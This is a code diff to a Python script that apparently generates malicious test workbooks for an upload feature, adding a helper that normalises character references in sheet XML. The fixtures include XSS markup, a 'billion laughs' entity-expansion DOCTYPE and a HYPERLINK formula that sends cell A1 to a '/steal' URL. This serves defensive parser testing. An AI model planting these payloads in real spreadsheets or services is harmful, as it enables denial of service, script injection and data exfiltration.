@@ -10,6 +10,7 @@ running the script again rewrites the same bytes.  Workbooks start from
 from __future__ import annotations
 
 import io
+import re
 import zipfile
 from pathlib import Path
 
@@ -106,9 +107,19 @@ MARKUP = '<script>alert(1)</script><img src=x onerror="alert(2)">'
 
 
 
-def sheet_with(doctype: str, cell_text: str) -> bytes:
+def sheet_xml() -> str:
+    """The first sheet's XML with non-ASCII text as characters: the writer may store it as
+    character references (openpyxl does with lxml), which the edits below would miss."""
     sheet = zipfile.ZipFile(UPLOADS / "plan-table.xlsx").read(SHEET).decode()
-    return (doctype + sheet.replace(FIRST_NAME, cell_text, 1)).encode()
+    sheet = re.sub(r"&#([0-9]+);",
+                   lambda m: chr(int(m.group(1))) if int(m.group(1)) > 127 else m.group(0),
+                   sheet)
+    assert FIRST_NAME in sheet, "the table's first entry moved: update FIRST_NAME"
+    return sheet
+
+
+def sheet_with(doctype: str, cell_text: str) -> bytes:
+    return (doctype + sheet_xml().replace(FIRST_NAME, cell_text, 1)).encode()
 
 
 def workbooks() -> dict[str, bytes]:
@@ -116,7 +127,7 @@ def workbooks() -> dict[str, bytes]:
         f'<!ENTITY lol{i} "' + f"&lol{i - 1};" * 10 + '">' for i in range(1, 10)
     )
     formula_sheet = (
-        zipfile.ZipFile(UPLOADS / "plan-table.xlsx").read(SHEET).decode().replace(
+        sheet_xml().replace(
             f'<c r="D3" s="4" t="inlineStr"><is><t>{FIRST_NAME}</t></is></c>',
             '<c r="D3" s="4"><f>HYPERLINK("http://127.0.0.1/steal?"&amp;A1,"click")</f>'
             "<v>click</v></c>",
